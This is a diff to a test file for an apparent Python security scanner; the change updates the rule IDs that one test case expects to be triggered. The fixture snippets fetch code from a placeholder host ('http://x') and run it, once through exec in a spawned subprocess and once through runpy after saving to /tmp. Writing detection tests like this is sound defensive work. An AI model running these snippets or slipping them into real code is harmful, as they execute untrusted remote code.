@@ -87,7 +87,7 @@ CASES = {
     ),
     "python-c": (
         'import subprocess,sys\nsubprocess.Popen([sys.executable,"-c","import urllib.request as u;exec(u.urlopen(\'http://x\').read())"])\n',
-        ["PYS102", "PYS104", "PYS118"],
+        ["PYS104", "PYS118", "PYS124"],
     ),
     "runpy-dl": (
         'import runpy,urllib.request\nurllib.request.urlretrieve("http://x/a.py","/tmp/a.py")\nrunpy.run_path("/tmp/a.py")\n',
